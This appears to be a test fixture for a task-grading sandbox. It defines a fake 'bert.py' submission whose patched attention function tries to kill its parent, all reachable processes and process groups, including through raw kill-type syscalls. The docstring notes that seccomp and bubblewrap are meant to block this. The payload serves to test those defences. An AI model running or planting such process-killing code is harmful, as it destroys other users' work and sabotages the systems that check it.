"""Kills its parent and everything it may: kill(-1), process groups, pidfd, tgkill.

Defended by: seccomp.py's filter for tasks: no signals to others. bubblewrap, own user: few to
reach.
"""

CODE = {
    "bert.py": """
import ctypes, os, signal
def evil(self, *_):
    got = []
    for victim in (os.getppid(), -1, 0, 1, -os.getppid()):
        try:
            os.kill(victim, signal.SIGKILL)
            got.append(victim)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    for number, arguments in (
        (234, (parent, parent, 9)), (200, (parent, 9)), (434, (parent, 0)),
        (129, (parent, 9, ctypes.create_string_buffer(128))),
    ):
        if libc.syscall(number, *arguments) >= 0:
            got.append(number)
    raise Exception(f"GOT THROUGH: {got}" if got else "nobody killed")
BertSelfAttention.attention = evil
""",
    "optimizer.py": "",
}
BASE = "solution"
TASKS = {"1.2": 10, "1.3": 15, "1.4": 15, "1.5": 20}
STATUSES = {"1.1": "wrong"}
